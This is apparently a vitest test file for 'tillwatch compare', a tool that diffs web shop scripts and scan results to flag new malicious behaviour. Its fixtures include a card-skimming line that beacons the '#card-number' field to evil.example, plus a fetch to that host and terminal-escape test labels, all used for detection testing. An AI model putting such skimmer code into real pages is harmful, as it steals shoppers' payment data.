import { mkdirSync, mkdtempSync, readFileSync, rmSync, truncateSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { fileURLToPath } from 'node:url'
import type { ScanResult } from '@tillwatch/contract/shapes'
import { type ComparisonReport, comparisonSchema } from '@tillwatch/core/changes'
import { afterAll, describe, expect, it } from 'vitest'
import { readCompareArguments } from '#compare/arguments.ts'
import { makeReport } from '#compare/make-report.ts'
import { exitCodeOf, renderDifference } from '#compare/run.ts'
import { renderComparison } from '#compare/text.ts'
import { evaluatedScan, sha256Of, shopScript } from './compare/scans.ts'
import { runHere as run } from './helpers.ts'

const folder = mkdtempSync(join(tmpdir(), 'tillwatch-compare-'))
const bodies = join(folder, 'bodies')
mkdirSync(bodies)
afterAll(() => rmSync(folder, { recursive: true, force: true }))

const plainStyle = { color: false, columns: 0 }
const put = (name: string, content: string | Uint8Array): string => {
  const file = join(folder, name)
  writeFileSync(file, content)
  return file
}
const keep = (code: string): string => {
  writeFileSync(join(bodies, `${sha256Of(code)}.js`), code)
  return code
}
const scan = (name: string, result: ScanResult | object): string => put(name, JSON.stringify(result))
/** The comparison and its exit code, without a process of its own. */
const compared = (...args: string[]): { code: number; report: ComparisonReport } => {
  const reading = readCompareArguments(args)
  if (!reading.ok || reading.asked === 'help') throw new Error(`not asked for a comparison: ${JSON.stringify(reading)}`)
  const report = comparisonSchema.parse(makeReport(reading.asked))
  return { code: exitCodeOf(report), report }
}

const calm = 'function total(items) {\n  return items.length\n}\nwindow.total = total\n'
const thief = `${calm}document.addEventListener('submit', () => navigator.sendBeacon('https://evil.example/c', document.querySelector('#card-number').value))\n`

it('takes declared hosts of two script files for those that the card may go to', async () => {
  const [before, after] = [put('calm-before.js', calm), put('thief-after.js', thief)]
  const verdicts = async (...more: string[]) =>
    JSON.parse((await run(['compare', before, after, '--json', '-', ...more])).out).changes[0].verdict
  expect(await verdicts()).toBe('malicious')
  for (const flag of ['--payment-provider', '--own-host', '--host']) expect(await verdicts(flag, 'evil.example')).not.toBe('malicious')
})

describe('tillwatch compare of two scripts', () => {
  const before = put('before.js', calm)

  it('says what the second can newly do, to where and in which line, and exits with 1', async () => {
    const { code, out } = await run(['compare', before, put('after.js', thief)])
    expect(code).toBe(1)
    expect(out).toContain('1 change at alert level, 0 others.')
    expect(out).toMatch(/evil\.example/)
    expect(out).toMatch(/line 5\b/)
    expect(out).toMatch(/^ +5:1 \+ document\.addEventListener/m)
    expect(out).not.toContain('\x1b')
  })

  it('exits with 0 where names alone were given out anew, and where nothing changed', () => {
    const { code, report } = compared(before, put('renamed.js', calm.replaceAll('items', 'x')))
    expect([code, report.changes.map(({ verdict }) => verdict)]).toEqual([0, ['rebuild']])
    const same = compared(before, before)
    expect([same.code, renderComparison(same.report, plainStyle, 'en')]).toEqual([0, expect.stringContaining('The files are identical.')])
  })

  it('writes the same as a file, of the published shape, beside the text for people', async () => {
    const file = join(folder, 'report.json')
    const { code, out } = await run(['compare', before, put('other.js', thief), '--json', file])
    expect([code, out.includes('Changes')]).toEqual([1, true])
    const report = comparisonSchema.parse(JSON.parse(readFileSync(file, 'utf8')))
    expect(report).toMatchObject({
      of: 'scripts',
      before: { sha256: sha256Of(calm), sizeBytes: calm.length },
      summary: { alert: true, scripts: null },
    })
  })

  it('knows the published file of a library by its bytes', () => {
    const jquery = join(fileURLToPath(new URL('../../../node_modules', import.meta.url)), 'jquery/dist/jquery.min.js')
    const { code, report } = compared(before, jquery)
    expect([code, report.changes[0]?.verdict, report.changes[0]?.reasons[0]?.sentence]).toEqual([
      0,
      'release',
      expect.stringMatching(/^It is identical to the published file of jquery \d/),
    ])
  })

  it('reads bytes that are no UTF-8 as browsers do, and says so', () => {
    const broken = put('broken.js', Buffer.concat([Buffer.from('window.name = "'), Buffer.from([0xff, 0xfe, 0x80]), Buffer.from('"\n')]))
    const { report } = compared(before, broken)
    expect(report.notCompared).toMatchObject([
      { subject: broken, why: { sentence: 'Some of its bytes are not UTF-8, so they were read as replacement characters.' } },
    ])
  })

  it('reads a file in UTF-16 by its byte order mark, so that what is appended to it is seen', () => {
    const utf16 = (name: string, text: string) => put(name, Buffer.from(`\ufeff${text}`, 'utf16le'))
    const { code, report } = compared(utf16('wide.js', calm), utf16('wide-after.js', thief))
    expect([code, report.changes[0]?.verdict, report.notCompared]).toEqual([1, 'malicious', []])
  })

  it('says that what it counts are pieces where a long line was taken apart', () => {
    const line = (count: number) => `${'f("some text");'.repeat(count)}\n`
    expect(renderDifference(line(100), `${line(100)}${line(60)}`, plainStyle, 'en')).toContain('split into pieces')
    expect(renderDifference('f()\n', 'f()\ng()\n', plainStyle, 'en')).not.toContain('pieces')
  })

  it('shows what differs without counting, folded, and keeps it in the JSON', () => {
    const tokens = (what: string) => Array.from({ length: 5 }, (_, n) => `set("${what}${n}c2e9f41b06d${what}")\n`).join('')
    const { report } = compared(put('tokens.js', tokens('4d')), put('tokens-after.js', tokens('e1')))
    expect(report.changes[0]?.masked).toHaveLength(5)
    const text = renderComparison(report, plainStyle, 'en')
    expect(text).toContain('line 2: 4d1c2e9f41b06d4d → e11c2e9f41b06de1')
    expect(text).toContain('… and 2 more in the JSON.')
    expect(text).not.toContain('line 4:')
  })

  it('shows lines that fit a terminal and cannot command it', () => {
    const shown = renderDifference(
      'var a = 1\n',
      `var a = 1\nvar evil = "\x1b[2J${'x'.repeat(300)}"\n`,
      { color: false, columns: 80 },
      'en',
    )
    expect(shown).not.toContain('\x1b')
    for (const line of shown.split('\n')) expect(line.length).toBeLessThan(80)
    expect(renderDifference('same', 'same', plainStyle, 'en')).toBe('')
  })

  it('ends without a stack for code that is nested deep, is one very long line, or is none', () => {
    for (const [name, code] of [
      ['deep.js', `${'['.repeat(200_000)}`],
      ['long.js', `var a="${'x'.repeat(3_000_000)}"`],
      ['none.js', '\0\0<<<%%'],
      ['proto.js', 'var __proto__ = { constructor: { prototype: 1 } }; __proto__.__proto__'],
    ] as const) {
      expect([name, [0, 1].includes(compared(before, put(name, code)).code)]).toEqual([name, true])
    }
  })
})

describe('tillwatch compare of two scans', () => {
  const earlier = scan('earlier.json', evaluatedScan([shopScript('app.js', keep(calm)), shopScript('ui.js', keep('var ui = 1'))]))

  it('judges what changed in a script by the bodies that were kept, and exits with 1', () => {
    const later = scan('later.json', evaluatedScan([shopScript('app.js', keep(thief)), shopScript('ui.js', 'var ui = 1')]))
    const { code, report } = compared(earlier, later, '--bodies', bodies)
    expect(code).toBe(1)
    expect(report).toMatchObject({ of: 'scans', summary: { scripts: { same: 1, changed: 1, added: 0, removed: 0 } } })
    expect(report.changes[0]).toMatchObject({ kind: 'script-changed', subject: 'shop.example/app.js' })
    expect(JSON.stringify(report.changes[0]?.newCapabilities)).toContain('evil.example')
    const out = renderComparison(report, plainStyle, 'en')
    expect(out).toContain('Before: 2026-11-21 12:00 UTC, desktop, evaluated.')
    expect(out).toContain('1 script unchanged, 1 changed, 0 new, 0 removed.')
  })

  it('exits with 0 where nothing changed, and where what changed was only built anew', () => {
    expect(compared(earlier, earlier).code).toBe(0)
    const rebuilt = scan(
      'rebuilt.json',
      evaluatedScan([shopScript('app.js', keep(calm.replaceAll('items', 'x'))), shopScript('ui.js', 'var ui = 1')]),
    )
    const { code, report } = compared(earlier, rebuilt, '--bodies', bodies)
    expect([code, report.changes.map(({ verdict }) => verdict)]).toEqual([0, ['rebuild']])
  })

  it('takes no file of the folder for a body whose name is not its digest', () => {
    const swapped = 'window.total = 2; fetch("https://evil.example/")'
    writeFileSync(join(bodies, `${sha256Of(swapped)}.js`), calm)
    const later = scan('swapped.json', evaluatedScan([shopScript('app.js', swapped), shopScript('ui.js', 'var ui = 1')]))
    const { code, report } = compared(earlier, later, '--bodies', bodies)
    expect([code, report.changes[0]?.reasons[0]?.code]).toEqual([1, 'not-judged'])
  })

  it('exits with 3 where one was not evaluated, and says why', async () => {
    const failed = scan('failed.json', { ...evaluatedScan([]), result: 'not-evaluated', reason: { code: 'bot-wall', detail: '' } })
    const { code, out } = await run(['compare', earlier, failed, '--bodies', bodies])
    expect(code).toBe(3)
    expect(out).toContain('Nothing could be compared.')
    expect(out).toContain('The later scan was not evaluated. The server returned a bot wall instead of the page.')
    expect(compared(failed, earlier).code).toBe(3)
  })

  it('makes what a page put into names harmless for a terminal', () => {
    const evil = evaluatedScan([
      { ...shopScript('x.js', keep('var y = 1')), label: 'a\x1b[31mred\u202e.js', scope: 'merchant', party: 'third' },
    ])
    expect(renderComparison(compared(earlier, scan('evil.json', evil)).report, plainStyle, 'en')).toContain('a�[31mred�.js')
  })
})

describe('a slip in the command line of compare', () => {
  const script = put('a.js', calm)
  const result = scan('a.json', evaluatedScan([]))
  const huge = put('huge.js', '')
  truncateSync(huge, 65 * 1024 * 1024)

  it.each([
    [[], 'Specify what to compare'],
    [[script], 'Specify what to compare'],
    [[script, script, script], 'is a third'],
    [[script, join(folder, 'missing.js')], 'missing.js cannot be read: no such file or directory.'],
    [[folder, script], 'is a folder. Specify a script or a scan result.'],
    [[script, result], 'Compare two files of the same kind'],
    [[put('text.json', 'no json'), result], 'text.json is not JSON'],
    [[scan('other.json', { name: 'x', version: 1 }), result], 'other.json is JSON, but not a result of tillwatch scan.'],
    [[scan('list.json', [1]), result], 'list.json is JSON, but not a result of tillwatch scan.'],
    [[scan('newer.json', { ...evaluatedScan([]), version: 9 }), result], 'was written by a newer tillwatch'],
    [[scan('broken.json', { ...evaluatedScan([]), scripts: 'none' }), result], 'not a valid result of tillwatch scan: scripts is not'],
    [[put('latin.json', Buffer.from('{"captureId":"\xe9","version":1}', 'latin1')), result], 'latin.json is not UTF-8'],
    [[script, huge], 'is larger than the limit of 64 MiB'],
    [[script, script, '--bodies', bodies], 'Use --bodies only with scan results'],
    [[result, result, '--bodies', script], 'is a file. Specify the folder'],
    [[result, result, '--bodies', join(folder, 'nowhere')], 'nowhere cannot be read'],
    [[result, result, '--json', join(folder, 'nowhere', 'x.json')], 'does not exist'],
    [[result, result, '--bogus'], 'Unknown option --bogus.'],
    [[result, result, '--json', 'a', '--json', 'b'], '--json is set twice'],
  ])('%j is answered by a sentence', (args, sentence) => {
    expect(readCompareArguments(args)).toEqual({ ok: false, sentence: expect.stringContaining(sentence) })
  })

  it('is told on standard error alone, with exit code 2', async () => {
    const { code, out, err } = await run(['compare', script])
    expect({ code, out }).toEqual({ code: 2, out: '' })
    expect(err).toMatch(/^Specify what to compare: .*\nSee: tillwatch help compare\n$/)
  })

  it('help prints on standard output and exits with 0', async () => {
    for (const args of [
      ['help', 'compare'],
      ['compare', '--help'],
    ]) {
      const { code, out } = await run(args)
      expect([code, out.split('\n')[0]]).toEqual([0, 'tillwatch compare BEFORE AFTER [options]'])
    }
  })
})
